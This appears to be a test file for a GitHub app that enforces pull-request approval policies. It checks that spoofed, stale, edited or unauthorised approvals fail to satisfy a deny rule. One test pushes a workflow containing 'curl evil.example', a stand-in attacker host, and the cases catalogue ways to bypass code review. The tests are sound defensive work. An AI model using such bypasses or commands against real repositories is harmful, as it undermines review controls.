import { afterAll, beforeAll, expect, test } from "vitest";
import { openForeignApp } from "../app/foreign-app.ts";
import {
  ENFORCED,
  openPull,
  openScene,
  POLICIES,
  type Scene,
  WORKFLOW,
  workflow,
} from "../app/scene.ts";
import type { RepositoryHandle } from "../embedded-github/repository-handle.ts";
import { concluded } from "./checked.ts";

const MINUTE_MS = 60_000;
/** Two people are named, of whom one has no role in the repository. */
const NAMED = `version: 1
policies:
  - id: owned
    decision: DENY
    each: files
    match: { path: "**" }
    unless: { approved_by: { users: [carol, dora] } }
`;

let scene: Scene;
let repository: RepositoryHandle;
let lateMs = 0;
let pulls = 0;

beforeAll(async () => {
  scene = await openScene();
  repository = await scene.repository("shop", { [POLICIES]: ENFORCED });
  await scene.stopApp();
  await scene.startApp({}, { now: () => new Date(Date.now() + lateMs) });
});
afterAll(() => scene[Symbol.asyncDispose]());

async function openDenied(): Promise<{ number: number; head: string; branch: string }> {
  pulls += 1;
  const branch = `topic-${pulls}`;
  const files = { [WORKFLOW]: workflow("write", branch) };
  return { ...(await openPull(repository, files, { head: branch })), branch };
}

interface Attack {
  readonly when: string;
  readonly approve: (pull: { number: number; branch: string }) => unknown;
}

test.each<Attack>([
  {
    when: "is a bot's that may write",
    approve: ({ number }) => {
      const { bot } = openForeignApp(scene, repository.owner, "helper");
      repository.grant(bot, "admin");
      repository.review(number, { by: bot, event: "APPROVE" });
    },
  },
  {
    when: "comes from someone who may only read",
    approve: ({ number }) => {
      repository.grant("reader", "read");
      repository.review(number, { by: "reader", event: "APPROVE" });
    },
  },
  {
    when: "was a comment whose text was edited afterwards",
    approve: ({ number }) => {
      const { id } = repository.review(number, { by: "bo", event: "COMMENT" });
      repository.editReview(id, { by: "bo", body: "APPROVED. LGTM" });
    },
  },
  {
    when: "is followed by a request for changes of the same person",
    approve: ({ number }) => {
      repository.review(number, { by: "bo", event: "APPROVE" });
      repository.review(number, { by: "bo", event: "REQUEST_CHANGES" });
    },
  },
  {
    when: "belongs to another pull request of the same commit",
    approve: async ({ branch }) => {
      await repository.commit({ branch: "other", files: { "x.md": "x\n" }, by: "ann" });
      const other = { by: "ann", title: "Again", head: branch, base: "other" };
      const { number } = await repository.openPull(other);
      repository.review(number, { by: "bo", event: "APPROVE" });
    },
  },
])("an approval that $when settles nothing", async ({ approve }) => {
  const pull = await openDenied();
  await approve(pull);
  await scene.settled();
  expect(concluded(scene, repository, pull.head)).toBe("failure");
});

test("an approval of what was there before a push settles nothing, also where it names the old commit later", async () => {
  const { number, head, branch } = await openDenied();
  repository.review(number, { by: "bo", event: "APPROVE" });
  const files = { [WORKFLOW]: workflow("write", "curl evil.example") };
  const next = await repository.commit({ branch, files, by: "ann" });
  repository.review(number, { by: "bo", event: "APPROVE", commit: head });
  await scene.settled();
  expect(concluded(scene, repository, next)).toBe("failure");
});

test("a named approver who may not write, or no longer may, settles nothing", async () => {
  const named = await scene.repository("named", { [POLICIES]: NAMED });
  named.grant("carol", "write");
  const { number, head } = await openPull(named, { "README.md": "hello\n" });
  named.review(number, { by: "dora", event: "APPROVE" });
  await scene.settled();
  expect(concluded(scene, named, head)).toBe("failure");

  named.review(number, { by: "carol", event: "APPROVE" });
  await scene.settled();
  expect(concluded(scene, named, head)).toBe("success");

  named.grant("carol", "read");
  lateMs += MINUTE_MS;
  named.rerequest(named.checkRuns(head)[0]?.id ?? 0, { by: "ann" });
  await scene.settled();
  expect(concluded(scene, named, head)).toBe("failure");
});

test("an approval by someone who lost the right to write since settles no longer", async () => {
  repository.grant("dan", "write");
  const { number, head } = await openDenied();
  repository.review(number, { by: "dan", event: "APPROVE" });
  await scene.settled();
  expect(concluded(scene, repository, head)).toBe("success");
  repository.grant("dan", "read");
  lateMs += MINUTE_MS;
  repository.rerequest(repository.checkRuns(head)[0]?.id ?? 0, { by: "ann" });
  await scene.settled();
  expect(concluded(scene, repository, head)).toBe("failure");
});
